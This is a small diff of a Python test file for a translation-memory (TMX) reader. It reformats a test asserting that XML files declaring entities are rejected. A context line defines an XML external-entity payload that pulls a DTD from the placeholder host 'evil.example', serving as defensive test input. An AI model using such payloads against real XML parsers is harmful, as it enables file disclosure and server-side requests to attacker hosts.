@@ -82,7 +82,9 @@ PARAMETER = '<!DOCTYPE tmx [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;
 @pytest.mark.parametrize("declared", [BOMB, OTHER_FILE, PARAMETER])
 def test_entities_are_refused(tmp_path: Path, declared: str) -> None:
     file = tmp_path / "a.tmx"
-    file.write_text(unit(variant("de", "x") + variant("en", "y")).replace("<tmx", f"{declared}<tmx", 1), encoding="utf-8")
+    file.write_text(
+        unit(variant("de", "x") + variant("en", "y")).replace("<tmx", f"{declared}<tmx", 1), encoding="utf-8"
+    )
     with pytest.raises(InputError, match="declares entities"):
         read_tmx(file)
 
